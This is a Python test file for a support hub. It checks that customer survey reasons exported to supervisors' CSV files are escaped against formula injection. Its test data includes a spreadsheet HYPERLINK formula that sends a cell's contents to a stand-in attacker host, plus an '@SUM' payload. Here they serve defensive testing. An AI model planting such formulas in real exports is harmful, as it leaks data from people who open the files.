"""What customers type reaches the supervisors' CSV exports as text a spreadsheet shows, never as
a formula it runs (OWASP's CSV injection: a cell starting with = + - @ tab or CR)."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
from collections.abc import AsyncIterator

import pytest

from tests.support import AgentClient, RunningHub, WidgetCustomer

pytestmark = pytest.mark.rasa

FORMULA = '=HYPERLINK("http://evil.test/?d="&A1,"ver detalhes")'


@pytest.fixture
async def supervisor(hub: RunningHub) -> AsyncIterator[AgentClient]:
    from hub.cli import add_user

    with contextlib.suppress(ValueError):  # Vera exists already: another test made her
        await asyncio.to_thread(
            lambda: asyncio.run(
                add_user(hub.settings, email="vera@loja.test", name="Vera", role="admin", teams=[], password="vera-password-1")
            )
        )
    client = await AgentClient(hub.url, "vera@loja.test", "vera-password-1").login()
    yield client
    await client.aclose()


async def answer_the_survey(hub: RunningHub, reason: str) -> None:
    customer = await WidgetCustomer(hub.url, "en").connect()
    await customer.say("hello")
    await customer.say("that's all, bye")
    await customer.say("3")
    await customer.say(reason)
    await customer.close()


async def test_a_reason_typed_as_a_formula_is_exported_as_text(hub: RunningHub, supervisor: AgentClient) -> None:
    await answer_the_survey(hub, FORMULA)
    await answer_the_survey(hub, "@SUM(1+1) péssimo")
    exported = (await supervisor.http.get("/api/insights/export/surveys.csv", params={"language": "en"})).text
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(exported))]
    assert "'" + FORMULA in reasons
    assert "'@SUM(1+1) péssimo" in reasons
    assert not any(r.startswith(("=", "+", "-", "@", "\t", "\r")) for r in reasons)
    # Every other table goes through the same writer.
    for table in ("summary", "themes", "endings"):
        body = (await supervisor.http.get(f"/api/insights/export/{table}.csv")).text
        assert not any(cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(body)) for cell in row)
